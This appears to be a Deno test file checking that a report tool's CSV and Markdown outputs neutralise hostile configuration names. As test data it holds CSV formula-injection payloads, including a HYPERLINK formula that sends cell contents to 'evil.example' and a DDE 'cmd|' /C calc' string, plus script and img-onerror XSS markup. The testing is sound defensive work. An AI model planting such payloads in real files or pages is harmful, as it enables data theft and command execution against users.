/**
 * Hostile names in what we write (issue 22 item 10, outputs): configuration names such as
 * `=HYPERLINK(…)`, `@SUM(…)`, `-cmd` or `<script>` reach `turns.csv`, `targets.csv`,
 * `errors.csv`, `tables/*.csv`, `query --format csv` inert (a leading `'`, OWASP's advice) while
 * numbers, negative ones included, stay numbers; the Markdown tables, `ci.md`, the README and
 * `query --format md` carry no raw HTML or Markdown markup from data.
 */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { join } from "node:path";
import pl from "nodejs-polars";
import { scoreCorpus, writeScored } from "../lib/frames/mod.ts";
import { tasksFrame, writeReport } from "../lib/report/mod.ts";
import { formatFrame } from "../lib/query/format.ts";
import { copyCorpus, tempDir } from "./score_helpers.ts";
import { CONFIG_A, targetsFrame, turnsFrame } from "./fixtures/report/frames.ts";

const HARNESS = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
const MODEL = `@SUM(1+1)<script>alert(1)</script>`;
const CHAIN = "-2+3+cmd|' /C calc'!A0";

/** Every cell of a CSV text, parsed as a spreadsheet would split it (all as text). */
function csvCells(text: string): string[] {
  const df = pl.readCSV(Buffer.from(text), { inferSchemaLength: 0 });
  return [...df.columns, ...df.rows().flat().map((v) => (v === null ? "" : String(v)))];
}

/** Cells a spreadsheet would run: starting with = + - @ tab CR, and not a plain number. */
function formulas(text: string): string[] {
  return csvCells(text).filter((c) =>
    /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(c)
  );
}

Deno.test("score: hostile configuration names reach turns.csv, targets.csv and errors.csv inert", async () => {
  const dir = await copyCorpus();
  const cfg = JSON.parse(await Deno.readTextFile(join(dir, "runs/k1/config.json")));
  await Deno.writeTextFile(
    join(dir, "runs/k1/config.json"),
    JSON.stringify({ ...cfg, harness: HARNESS, model: MODEL }),
  );
  // a stray file under the configuration: an errors.csv row naming the configuration
  await Deno.writeTextFile(join(dir, "runs/k1/+stray.txt"), "x");
  const out = join(await tempDir(), "out");
  const scored = await scoreCorpus(dir, { cache: false, workers: 0 });
  await writeScored(scored, out);
  for (const f of ["turns.csv", "targets.csv", "errors.csv"]) {
    const text = await Deno.readTextFile(join(out, f));
    assert.deepEqual(formulas(text), [], f);
  }
  const turns = await Deno.readTextFile(join(out, "turns.csv"));
  assert.ok(csvCells(turns).includes(`'${HARNESS}`), turns.slice(0, 400));
  assert.ok(csvCells(turns).includes(`'${MODEL}`));
  // the exact names stay in Parquet, numbers stay numbers in the CSV
  const back = pl.readCSV(Buffer.from(turns));
  assert.deepEqual(
    back.getColumn("turn").toArray(),
    scored.turns.getColumn("turn").toArray(),
  );
  assert.ok(scored.turns.getColumn("harness").toArray().includes(HARNESS));
});

Deno.test("report: hostile names in tables/*.csv are inert, *.md and README carry no raw HTML", async () => {
  const hostile = CONFIG_A.map((t) => ({ ...t, harness: HARNESS, model: MODEL, chain: CHAIN }));
  const out = await tempDir();
  await writeReport({
    scored: {
      turns: turnsFrame([...CONFIG_A, ...hostile]),
      targets: targetsFrame([]),
    },
    tasks: tasksFrame([
      { chain: CHAIN, turn: 1, tests: 10, requirement_chars: 2000, functions: 3 },
    ]),
    corpus: "/corpora/<img src=x onerror=alert(1)>`x`",
    simulated: false,
    provenance: "run logs in /corpora/<img src=x onerror=alert(1)>",
    source: "hostile names",
  }, { out, B: 50 });
  const files: string[] = [];
  for await (const e of Deno.readDir(join(out, "tables"))) files.push(`tables/${e.name}`);
  files.push("README.md");
  let negatives = 0;
  for (const f of files) {
    const text = await Deno.readTextFile(join(out, f));
    if (f.endsWith(".csv")) {
      assert.deepEqual(formulas(text), [], f);
      // negative differences are written as numbers, not neutralised text
      negatives += csvCells(text).filter((c) => /^-\d/.test(c)).length;
    }
    if (f.endsWith(".md")) {
      assert.doesNotMatch(text, /<script|<img/i, f);
      assert.ok(!text.includes(MODEL), f);
    }
  }
  assert.ok(negatives > 0, "some paper differences are negative");
  const table2 = await Deno.readTextFile(join(out, "tables/table2.md"));
  // the name shown as text: markup escaped, no mention (a zero-width space after @)
  assert.ok(
    table2.includes("@\u200bSUM(1+1)&lt;script&gt;alert(1)&lt;/script&gt;"),
    table2,
  );
});

Deno.test("query --format csv and md: hostile cells inert, numbers kept", () => {
  const df = pl.DataFrame({
    model: [MODEL, "-x", "plain", "\tTAB"],
    delta: [-0.5, -2, 3, 0],
    note: ["<b>bold</b> | pipe", "*star*", "a\nb", "-1.5"],
  });
  const csv = formatFrame(df, "csv");
  assert.deepEqual(formulas(csv), []);
  const back = pl.readCSV(Buffer.from(csv));
  assert.deepEqual(back.getColumn("delta").toArray(), [-0.5, -2, 3, 0]);
  assert.equal(back.getColumn("note").toArray().at(-1), "-1.5"); // a number as text: kept
  const md = formatFrame(df, "md");
  assert.doesNotMatch(md, /<script|<b>/);
  assert.ok(md.includes("&lt;b&gt;bold&lt;/b&gt; \\| pipe"), md);
  assert.ok(md.includes("\\*star\\*"), md);
  assert.equal(md.split("\n").length, 2 + 4);
});
